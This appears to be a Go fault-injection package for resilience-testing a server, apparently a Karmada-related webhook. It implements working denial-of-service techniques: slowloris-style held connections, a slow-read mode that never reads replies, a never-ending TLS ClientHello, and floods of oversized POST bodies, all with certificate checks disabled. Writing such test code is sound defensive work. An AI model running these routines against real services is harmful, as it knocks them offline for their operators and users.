// SPDX-FileCopyrightText: The Workload Interpreter Authors
// SPDX-License-Identifier: Apache-2.0

package faults

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"
)

// Target is what an attack is aimed at.
type Target struct {
	Address string
	TLS     bool
	Secret  string // the path with the secret, or "/"
}

// Dial opens a connection.
func (t Target) Dial(ctx context.Context) (net.Conn, error) {
	dialer := &net.Dialer{Timeout: 5 * time.Second}
	if !t.TLS {
		return dialer.DialContext(ctx, "tcp", t.Address)
	}
	secure := tls.Dialer{NetDialer: dialer, Config: &tls.Config{InsecureSkipVerify: true}}
	return secure.DialContext(ctx, "tcp", t.Address)
}

// Head is the head of a call with more lines.
func (t Target) Head(lines string) string {
	return "POST " + t.Secret + " HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n" + lines + "\r\n\r\n"
}

// Hold opens connections that send a text and then do nothing more, twenty at a time, each again some seconds after it was closed.
func (t Target) Hold(ctx context.Context, n int, text string) {
	t.hold(ctx, n, func(c net.Conn) {
		if _, err := io.WriteString(c, text); err == nil {
			_, _ = io.Copy(io.Discard, c)
		}
	})
}

// Refuse sends a text and never takes the answer.
func (t Target) Refuse(ctx context.Context, n int, text string) {
	t.hold(ctx, n, func(c net.Conn) {
		if tcp, ok := c.(*net.TCPConn); ok {
			_ = tcp.SetReadBuffer(4 << 10)
		}
		if _, err := io.WriteString(c, text); err == nil {
			<-ctx.Done()
		}
	})
}

func (t Target) hold(ctx context.Context, n int, with func(net.Conn)) {
	var group sync.WaitGroup
	dialing := make(chan struct{}, 20)
	for range n {
		group.Go(func() {
			for ctx.Err() == nil {
				dialing <- struct{}{}
				c, err := t.Dial(ctx)
				<-dialing
				if err == nil {
					stop := context.AfterFunc(ctx, func() { c.Close() })
					with(c)
					stop()
					c.Close()
				}
				select {
				case <-ctx.Done():
				case <-time.After(3 * time.Second):
				}
			}
		})
	}
	group.Wait()
}

// Hello sends most of a TLS record with a ClientHello that never ends.
func (t Target) Hello(ctx context.Context, n int) {
	var text bytes.Buffer
	text.WriteString("\x16\x03\x01\x40\x00\x01\x00\xff\x00") // a handshake of 64 KiB in records of 16 KiB
	text.Write(make([]byte, 16<<10-4))
	for range 3 {
		text.WriteString("\x16\x03\x01\x40\x00")
		text.Write(make([]byte, 16<<10-100))
	}
	t.TLS = false
	t.Hold(ctx, n, text.String())
}

// Large sends calls with large bodies at once, each repeated as Karmada's client does, and returns how many were answered and the
// first error.
func (t Target) Large(ctx context.Context, n, size int) (answered int, first error) {
	scheme := "http"
	if t.TLS {
		scheme = "https"
	}
	web := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, MaxIdleConnsPerHost: n}}
	defer web.CloseIdleConnections()
	body := []byte(strings.Replace(Question, `"spec"`, `"x":"`+strings.Repeat("x", size)+`","spec"`, 1))
	var group sync.WaitGroup
	var mu sync.Mutex
	for range n {
		group.Go(func() {
			err := repeat(ctx, web, scheme+"://"+t.Address+t.Secret, body)
			mu.Lock()
			defer mu.Unlock()
			if err == nil {
				answered++
			} else if first == nil {
				first = err
			}
		})
	}
	group.Wait()
	return answered, first
}

// repeat sends a call up to ten times more if it is refused with 503, a second apart.
func repeat(ctx context.Context, web *http.Client, url string, body []byte) error {
	for range 11 {
		request, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(body))
		if err != nil {
			return err
		}
		request.Header.Set("Content-Type", "application/json")
		response, err := web.Do(request)
		if err != nil {
			return err
		}
		_, err = io.Copy(io.Discard, response.Body)
		response.Body.Close()
		switch {
		case err != nil:
			return err
		case response.StatusCode == http.StatusOK:
			return nil
		case response.StatusCode != http.StatusServiceUnavailable:
			return fmt.Errorf("got %s", response.Status)
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(time.Second):
		}
	}
	return fmt.Errorf("refused 11 times")
}
